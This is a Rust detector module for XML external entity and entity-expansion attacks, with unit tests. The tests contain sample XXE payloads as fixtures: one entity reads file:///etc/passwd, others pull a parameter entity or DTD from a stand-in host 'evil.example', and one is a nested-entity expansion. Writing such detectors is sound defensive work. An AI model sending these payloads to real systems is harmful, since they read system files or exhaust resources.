//! XML external entities: a document type declaration that pulls in an
//! external resource (`<!ENTITY x SYSTEM "file:///...">`, a parameter
//! entity, `<!DOCTYPE r SYSTEM "http://...">`) or declares entities made of
//! other entities (exponential expansion, "billion laughs"). The
//! declaration is tokenised, so spacing and case do not matter.

use super::{CRITICAL, Hit};

/// The declarations of a DOCTYPE: from `<!doctype` to the end of its
/// internal subset (lower-cased, whitespace collapsed).
fn doctype(s: &str) -> Option<String> {
    let lower = s.to_ascii_lowercase();
    let at = lower.find("<!doctype")?;
    let (mut depth, mut quote, mut end) = (0i32, None, lower.len());
    for (i, c) in lower[at..].char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '[') => depth += 1,
            (None, ']') => depth -= 1,
            (None, '>') if depth <= 0 => {
                end = at + i + 1;
                break;
            }
            _ => {}
        }
    }
    let words: Vec<&str> = lower[at..end].split_whitespace().collect();
    Some(words.join(" "))
}

/// What in a DOCTYPE is dangerous, if anything.
fn danger(decl: &str) -> Option<&'static str> {
    // Tokens around quoted literals: `<!entity x system "..."`.
    let spaced = decl
        .replace('<', " <")
        .replace('>', "> ")
        .replace('[', " [ ")
        .replace(['"', '\''], " \" ");
    let tokens: Vec<&str> = spaced.split_whitespace().collect();
    for (i, t) in tokens.iter().enumerate() {
        let next = tokens.get(i + 1).copied().unwrap_or("");
        match *t {
            "<!entity" if next == "%" => return Some("parameter entity"),
            "system" | "public" => {
                let decl_kind = tokens[..i].iter().rev().find(|t| t.starts_with("<!"));
                return Some(match decl_kind {
                    Some(&"<!entity") => "external entity",
                    _ => "external DTD",
                });
            }
            _ => {}
        }
    }
    let entities = tokens.iter().filter(|t| **t == "<!entity").count();
    let refs = decl.matches('&').count();
    (entities >= 2 && refs >= 2).then_some("nested entities")
}

/// XXE and entity expansion.
pub fn detect(s: &str) -> Option<Hit> {
    if !s.contains("<!") {
        return None;
    }
    let decl = doctype(s)?;
    let why = danger(&decl)?;
    Some(Hit::new("xxe", CRITICAL, &format!("{why}: {decl}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn external_and_expanding_entities() {
        for s in [
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>"#,
            r#"<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/evil.dtd"><r>1</r>"#,
            r#"<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>"#,
            "<!doctype  R [ <!entity\nx   PUBLIC 'id' 'http://e/x'> ]>",
        ] {
            assert!(detect(s).is_some(), "{s}");
        }
    }

    #[test]
    fn plain_documents_are_not() {
        for s in [
            "<!DOCTYPE html><html><body>hi</body></html>",
            r#"<?xml version="1.0"?><r><a>Tom &amp; Jerry</a></r>"#,
            r#"<!DOCTYPE r [<!ENTITY copy "(c) Acme">]><r>&copy;</r>"#,
            "<!-- a comment --><p>system public</p>",
            "<!DOCTYPE html><p>the system is public</p>",
        ] {
            assert_eq!(detect(s), None, "{s}");
        }
    }
}
